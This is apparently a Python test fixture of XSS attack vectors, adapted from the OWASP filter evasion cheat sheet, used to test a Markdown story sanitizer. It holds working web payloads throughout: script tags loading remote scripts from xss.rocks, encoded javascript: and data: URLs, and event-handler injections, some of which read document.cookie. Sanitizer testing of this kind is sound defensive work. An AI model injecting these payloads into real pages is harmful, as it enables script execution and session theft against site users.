"""Attack vectors for the story-body sanitizer (tests/test_sanitize.py).

``VECTORS`` holds vectors of the OWASP XSS Filter Evasion Cheat Sheet that
apply to HTML written in Markdown (written from the cheat sheet; a few are
shortened). Each is one line, without a backtick or a ``|``, so that it also
fits in a code span and in a table cell. ``url`` is the dangerous address a
vector carries, used for Markdown link and image targets; ``None`` when it
has none (the vector itself is used there).

``MARKDOWN_VECTORS`` are the same attacks written with Markdown's own syntax
(``attr_list`` lets an editor put any attribute on an element).
"""

from __future__ import annotations

from typing import NamedTuple


class Vector(NamedTuple):
    name: str
    html: str
    url: str | None = None


JS = "javascript:alert('XSS');"
_ENTITIES_DEC = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
_ENTITIES_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
_ENTITIES_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")
_DATA_HTML = "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"

VECTORS: list[Vector] = [
    # <script> in many spellings
    Vector("script-src", "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>"),
    Vector("script-inline", "<script>alert('XSS')</script>"),
    Vector("script-fromcharcode", "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>"),
    Vector("script-slash-attr", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    Vector("script-extra-open", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    Vector("script-no-close", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"),
    Vector("script-protocol-relative", "<SCRIPT SRC=//xss.rocks/.j>"),
    Vector("script-quoted-gt", '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
    Vector("script-half-open", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    Vector("script-in-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    # <img> with javascript: and event handlers
    Vector("img-js", f'<IMG SRC="{JS}">', JS),
    Vector("img-js-no-quotes", "<IMG SRC=javascript:alert('XSS')>", "javascript:alert('XSS')"),
    Vector("img-js-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "JaVaScRiPt:alert('XSS')"),
    Vector("img-js-decimal-entities", f"<IMG SRC={_ENTITIES_DEC}>", _ENTITIES_DEC),
    Vector("img-js-padded-entities", f"<IMG SRC={_ENTITIES_PADDED}>", _ENTITIES_PADDED),
    Vector("img-js-hex-entities", f"<IMG SRC={_ENTITIES_HEX}>", _ENTITIES_HEX),
    Vector("img-js-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "jav\tascript:alert('XSS');"),
    Vector("img-js-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
           "jav&#x09;ascript:alert('XSS');"),
    Vector("img-js-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
           "jav&#x0A;ascript:alert('XSS');"),
    Vector("img-js-encoded-cr", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
           "jav&#x0D;ascript:alert('XSS');"),
    Vector("img-js-leading-spaces", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
           "&#14;javascript:alert('XSS');"),
    Vector("img-js-comment-split", "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>"),
    Vector("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    Vector("img-empty-src-onmouseover", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    Vector("img-no-src-onmouseover", "<IMG onmouseover=\"alert('xxs')\">"),
    Vector("img-onerror", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>"),
    Vector("img-onerror-entities", f'<img src=x onerror="{_ENTITIES_PADDED}">'),
    Vector("img-dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    Vector("img-lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
    Vector("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>", 'vbscript:msgbox("XSS")'),
    Vector("img-livescript", '<IMG SRC="livescript:[code]">', "livescript:[code]"),
    Vector("img-style-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    Vector("img-data-html", f'<img src="{_DATA_HTML}">', _DATA_HTML),
    Vector("image-tag", "<image src=x onerror=alert(1)>"),
    # links
    Vector("a-js-encoded-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>', "jav&#x09;ascript:alert(1)"),
    Vector("a-js-colon-entity", '<a href="javascript&colon;alert(1)">x</a>', "javascript&colon;alert(1)"),
    Vector("a-js-first-letter-entity", '<a href="&#x6A;avascript:alert(1)">x</a>', "&#x6A;avascript:alert(1)"),
    Vector("a-js-upper", '<a href="JAVASCRIPT:alert(1)">x</a>', "JAVASCRIPT:alert(1)"),
    Vector("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>', "vbscript:msgbox(1)"),
    Vector("a-data-html", f'<a href="{_DATA_HTML}">x</a>', _DATA_HTML),
    Vector("a-onmouseover", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    Vector("a-onclick", '<a href="https://example.org/" onclick="alert(1)">x</a>'),
    # whole-page elements
    Vector("body-onload", "<BODY ONLOAD=alert('XSS')>"),
    Vector("body-background", f'<BODY BACKGROUND="{JS}">'),
    Vector("svg-onload", "<svg/onload=alert('XSS')>"),
    Vector("svg-onload-entities", "<SVG ONLOAD=&#97;&#108;&#101;&#114;&#116;(1)>"),
    Vector("iframe-js", f'<IFRAME SRC="{JS}"></IFRAME>', JS),
    Vector("iframe-onmouseover", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
    Vector("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    Vector("frameset", f'<FRAMESET><FRAME SRC="{JS}"></FRAMESET>', JS),
    Vector("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    Vector("td-background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"),
    Vector("div-background-image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
    Vector("div-background-image-escaped",
           "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
           "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058\\0053\\0053"
           "\\0027\\0029'\\0029\">"),
    Vector("div-background-image-control", "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">"),
    Vector("div-expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    Vector("xss-behavior", '<XSS STYLE="behavior: url(xss.htc);">'),
    Vector("style-import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"),
    Vector("style-moz-binding", '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'),
    Vector("link-stylesheet-js", f'<LINK REL="stylesheet" HREF="{JS}">', JS),
    Vector("link-stylesheet", '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">'),
    Vector("meta-refresh-js", f'<META HTTP-EQUIV="refresh" CONTENT="0;url={JS}">', JS),
    Vector("meta-refresh-data", f'<META HTTP-EQUIV="refresh" CONTENT="0;url={_DATA_HTML}">', _DATA_HTML),
    Vector("meta-link-header", '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">'),
    Vector("base-href", f'<BASE HREF="{JS}//">', f"{JS}//"),
    Vector("object-scriptlet", '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
    Vector("object-js", '<object data="javascript:alert(1)"></object>', "javascript:alert(1)"),
    Vector("embed-svg-data", '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">'),
    Vector("embed-js", '<embed src="javascript:alert(1)">', "javascript:alert(1)"),
    Vector("bgsound", f'<BGSOUND SRC="{JS}">', JS),
    Vector("br-js-entity", "<BR SIZE=\"&{alert('XSS')}\">"),
    Vector("input-image", f'<INPUT TYPE="IMAGE" SRC="{JS}">', JS),
    Vector("form-action", '<form action="javascript:alert(1)"><button>x</button></form>', "javascript:alert(1)"),
    Vector("button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'),
    Vector("input-autofocus", "<input onfocus=alert(1) autofocus>"),
    Vector("details-ontoggle", "<details open ontoggle=alert(1)>"),
    Vector("math-maction", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICKME</maction></math>'),
    Vector("audio-onerror", "<audio src=x onerror=alert(1)>"),
    Vector("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    Vector("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    Vector("head-meta-charset", "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-"),
    Vector("cdata-img", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    Vector("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Vector("overlay-style", '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>'),
]

# The same attacks in Markdown's own syntax: (name, Markdown line).
MARKDOWN_VECTORS: list[tuple[str, str]] = [
    ("link-js", "[x](javascript:alert(1))"),
    ("link-js-entity", "[x](jav&#x09;ascript:alert(1))"),
    ("link-js-upper", "[x](JaVaScRiPt:alert(1))"),
    ("link-vbscript", "[x](vbscript:msgbox(1))"),
    ("link-data", f"[x]({_DATA_HTML})"),
    ("link-attr-onclick", '[x](https://example.org/){: onclick="alert(1)" }'),
    ("image-js", "![x](javascript:alert(1))"),
    ("image-attr-onerror", "![x](photo.jpg){: onerror=alert(1) }"),
    ("heading-attr", "## Title {: onmouseover=alert(1) }"),
    ("paragraph-style", 'Text\n{: style="position:fixed" }'),
    ("autolink-js", "<javascript:alert(1)>"),
]
